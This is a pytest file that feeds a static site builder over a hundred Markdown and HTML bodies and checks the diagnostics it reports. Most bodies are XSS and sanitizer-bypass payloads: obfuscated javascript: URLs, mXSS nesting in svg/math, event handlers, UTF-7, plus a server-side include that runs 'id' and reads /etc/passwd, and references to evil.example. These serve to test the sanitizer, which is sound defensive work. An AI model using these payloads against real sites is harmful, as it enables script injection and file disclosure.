"""More HTML in bodies: what browsers read otherwise than it seems, and what Markdown makes of it.

One site holds them all, each as an article of its own: what is said of it, and that nothing of it acts.
"""

import pytest
from harmless import build
from support import Site, article, picture

BODIES = {
    'reference over two lines': '[x][1]\n\n[1]: <java\nscript:alert(1)>',
    'reference title that acts': '[x][1]\n\n[1]: https://x.example/ "\' onmouseover=\'alert(1)"',
    'reference of a picture to data': '![x][1]\n\n[1]: data:image/svg+xml;base64,PHN2Zz4=',
    'script in a footnote': 'x[^1]\n\n[^1]: <script>alert(1)</script>',
    'label of a footnote': 'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    'footnote in a footnote': 'x[^1]\n\n[^1]: y[^1]',
    'footnotes in a ring': 'x[^1]\n\n[^1]: y[^2]\n\n[^2]: z[^1]',
    'attribute list of a picture': '![x](x.jpg){: onerror="alert(1)" srcset="javascript:alert(1)" style="x" }',
    'attribute list of a heading': '## x {: id="../../x" onclick="alert(1)" }',
    'attribute list with a proto': 'x\n{: __proto__="x" constructor=y id="__proto__" }',
    'attribute list in a fence': '``` {onclick=alert(1) .x #y style=z}\nx\n```',
    'attribute list of a link to a frame': '[x](https://x.example/){: target=_self rel=opener download=x ping=https://evil.example }',
    'markup in a table cell': '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | <iframe src=javascript:alert(1)></iframe> |',
    'script that a table throws out': '<table><script>alert(1)</script><tr><td><style>x</style></td></tr></table>',
    'entity of a tab': '<a href="java&Tab;script:alert(1)">x</a>',
    'entities without semicolons': '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    'entity of a colon': '<a href="javascript&colon;alert(1)">x</a>',
    'entities of entities': '<a href="&amp;#106;avascript:alert(1)">x</a>',
    'leading no-break space': '<a href="\xa0javascript:alert(1)">x</a>',
    'leading line separator': '<a href="\u2028javascript:alert(1)">x</a>',
    'leading soft hyphen': '<a href="java\xadscript:alert(1)">x</a>',
    'full width letters': '<a href="ｊavascript:alert(1)">x</a> ＜script＞alert(1)＜/script＞',
    'long s in a scheme': '<a href="javaſcript:alert(1)">x</a>',
    'feed scheme': '<a href="feed:javascript:alert(1)">x</a>',
    'view-source scheme': '<a href="view-source:javascript:alert(1)">x</a>',
    'blob scheme': '<a href="blob:https://x.example/1">x</a>',
    'intent scheme': '<a href="intent://x#Intent;scheme=javascript;end">x</a>',
    'tel that is none': '<a href="tel:javascript:alert(1)">x</a>',
    'mail with headers': '[x](mailto:a@x.example?bcc=b@x.example%0d%0aSubject:x)',
    'mail as autolink': '<a@x.example?subject=<script>>',
    'backslash host': '<a href="/\\evil.example/">x</a>',
    'backslashes': '<a href="\\\\evil.example\\">x</a>',
    'scheme and backslash': '<a href="https:\\\\x.example\\">x</a>',
    'picture of a backslash host': '<img alt="x" src="/\\evil.example/x.png">',
    'data picture, unquoted': '<img alt=x src="data:image/svg+xml,<svg onload=alert(1)>">',
    'cite': '<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">x</blockquote><del cite="javascript:1">x</del>',
    'details': '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary>y</details>',
    'focus': '<input autofocus onfocus=alert(1)><a tabindex=1 autofocus onfocus=alert(1) href=#>x</a>',
    'video source': '<video><source onerror=alert(1) src=x></video>',
    'old link of math': '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    'link in svg': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    'foreign object': '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>',
    'annotation': '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    'form in math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    'style in svg in math': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'svg title': '<svg><title><style><img src="</style><img src=x onerror=alert(1)>">',
    'svg p style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    'desc in svg': '<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>',
    'select': '<select><option><script>alert(1)</script></select>',
    'xmp': '<xmp><script>alert(1)</script></xmp><listing><img src=x onerror=alert(1)></listing>',
    'noembed': "<noembed><img src=x title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    'noframes': "<noframes><img title='</noframes><script>alert(1)</script>'></noframes>",
    'iframe text': '<iframe><!--</iframe><script>alert(1)</script>--></iframe>',
    'utf-7': '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    'import': '<link rel=import href=//evil.example/><link rel=prefetch href=//evil.example/>',
    'button': '<button formaction=javascript:alert(1)>x</button>',
    'isindex': '<isindex action=javascript:alert(1) type=image>',
    'expression': '<p style="x:expression(alert(1))">x</p><p style="-moz-binding:url(//evil.example)">y</p>',
    'page mark in an attribute': '<p title="<!-- page -->">x</p>',
    'page mark in a comment': '<!-- <!-- page --> -->',
    'abbreviation of a tag': '<b>x</b>\n\n*[b]: y\n*[<b>]: z\n*[script]: w',
    'md in script': '<script markdown="1">\n*x*\n</script>',
    'md in div': '<div markdown="1" onclick="alert(1)">\n\n*x* <script>alert(1)</script>\n\n</div>',
    'md in an unclosed div': '<div markdown="1">\n\n*x*\n\n## y',
    'table of contents': '[TOC]\n\n## <script>alert(1)</script>\n\n## x {: #y }\n\n[TOC]',
    'headings of one name': '## x\n\n## x\n\n## x_1\n\n## x-1',
    'title that ends its quotes': '[x](https://x.example/ "a\\" onclick=\\"alert(1)")',
    'address that ends its quotes': '[x](https://x.example/"onclick="alert(1))',
    'huge picture size': '<img alt=x src=x.jpg width=99999999999999999999 height=-1 usemap=#x ismap>',
    'huge table span': '<table><tr><td colspan=99999999 rowspan=99999999>x</td></tr></table>',
    'huge list number': '<ol start=99999999999999999999><li value=-99999999999>x</li></ol>\n\n99999999999999999999. x',
    'time': '<time datetime="<script>">x</time>',
    'names that clobber': '<img alt=x src=x.jpg name=getElementById id=cookie><a id=location name=location href=#>x</a>',
    'direction': '<bdo dir=rtl>exe.gpj</bdo>',
    'other language': '<p lang="vi\'><script>">x</p>',
    'custom element': '<x-y onclick=alert(1)><script is="x">alert(1)</script></x-y>',
    'attributes twice': '<a href="https://x.example/" href="javascript:alert(1)">x</a>',
    'attribute without a blank': '<a href="https://x.example/"onclick="alert(1)">x</a>',
    'attribute in capitals': '<IMG SRC="x.jpg" ALT=x ONERROR="alert(1)">',
    'attribute with a form feed': '<img\x0csrc=x.jpg\x0conerror=alert(1) alt=x>',
    'end tag with attributes': 'x</p onclick=alert(1)></script/x>',
    'slashes for blanks': "<a/href='https://x.example/'/onclick=alert(1)>x</a>",
    'question mark': "<?xml version='1.0'?><?import namespace='x' implementation='//evil.example'?>",
    'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    'bogus comment': '<!x><script>alert(1)</script></!x><//><script>alert(1)</script>',
    'comment with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
    'link in a link': '[a [b](javascript:alert(1)) c](https://x.example/)',
    'picture in a link': '[![x](x.jpg)](javascript:alert(1))',
    'backticks round a tag': '`` `<script>` `` <code><script>alert(1)</script></code>',
    'escaped tag': '\\<script>alert(1)\\</script>',
    'code in a heading': '## `<script>alert(1)</script>`',
    'strange list': '- <script>\n  alert(1)\n- </script>',
    'quote': '> <script>\n> alert(1)\n> </script>',
    'tag across blocks': "<a href='\n\n' onclick='alert(1)'>x</a>",
    'math dollars': '$\\href{javascript:alert(1)}{x}$',
    'link to own file with query': '[x](../../content/site.yaml?x#y)',
    'link to a source with step': '[x](./../articles/./a.md#không-có)',
    'wiki': '[[x]] [[<script>]]',
    'smart symbols': '(c) --> <-- <-> =/=',
    'ruby': '<ruby>漢<rp>(</rp><rt onclick=alert(1)>kan</rt><rp>)</rp></ruby>',
    'portal': "<portal src='//evil.example'></portal><fencedframe src='//evil.example'></fencedframe>",
    'popover': '<div popover id=x onbeforetoggle=alert(1)>y</div><button popovertarget=x>z</button>',
    'shadow root': '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
    'dialog': '<dialog open><form method=dialog><button>x</button></form></dialog>',
    'track': "<video src='https://x.example/a.mp4'><track src='javascript:alert(1)' default></video>",
    'image map': "<map name=x><area href='javascript:alert(1)' shape=default></map>",
    'meter': '<meter value=1e999></meter><progress max=-1></progress>',
    'keygen': '<keygen autofocus onfocus=alert(1)><command onclick=x><menuitem>',
    'slot': '<slot name=x onslotchange=alert(1)></slot>',
    'server side include': "<!--#exec cmd='id' --><!--#include file='/etc/passwd'-->",
    'nginx variables': '[x](https://x.example/$host{}%24;)',
}  # fmt: skip
# What is said of them, by line and column; of the others nothing.
TOLD = {
    'markup in a table cell': ['6:1 iframe-host', '11:3 image-without-alt', '11:12 image-missing'],
    'entities of entities': ['9:10 link-broken'],
    'full width letters': ['9:10 link-broken'],
    'long s in a scheme': ['9:10 link-broken'],
    'mail as autolink': ['9:22 html-unclosed'],
    'video source': ['9:37 link-broken'],
    'form in math': ['9:41 html-unclosed'],
    'style in svg in math': ['9:1 html-unclosed'],
    'svg title': ['9:1 html-unclosed'],
    'svg p style': ['9:32 image-without-alt', '9:41 image-missing'],
    'xmp': ['9:46 image-without-alt', '9:55 image-missing'],
    'noembed': ['9:10 image-without-alt', '9:19 image-missing'],
    'iframe text': ['6:1 iframe-host'],
    'attribute with a form feed': ['9:5 control-character', '9:15 control-character'],
    'comment with a bang': ['9:10 image-without-alt', '9:19 image-missing'],
    'link to own file with query': ['9:5 link-outside-content'],
    'link to a source with step': ['9:5 anchor-broken'],
    'wiki': ['9:9 html-unclosed'],
}  # fmt: skip


@pytest.fixture(scope="module")
def said(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[str]]:
    """What is said of each source, by its name."""
    site = Site(tmp_path_factory.mktemp("markup") / "site")
    site.write("articles/x.jpg", picture(kind="JPEG"))
    site.write("articles/a.md", article("Bài đầu"))
    for number, body in enumerate(BODIES.values()):
        text = article(f"Bài {number}", f"Trước.\n\n{body}\n\nSau.")
        site.write(f"articles/{number}.md", text)
    report = build(site, keep_going=True)
    found: dict[str, list[str]] = {}
    for d in report.found:
        found.setdefault(d.place.path, []).append(f"{d.place.line}:{d.place.column} {d.code}")
    for number in range(len(BODIES)):
        if f"articles/{number}.md" not in report.left_out:
            page = site.read(f"tin-tuc/bai-{number}/index.html")
            assert "Trước." in page
            assert "Sau." in page
    return found


@pytest.mark.parametrize(("number", "name"), list(enumerate(BODIES)))
def test_what_is_said_of_a_body(number: int, name: str, said: dict[str, list[str]]) -> None:
    assert said.get(f"articles/{number}.md", []) == TOLD.get(name, [])
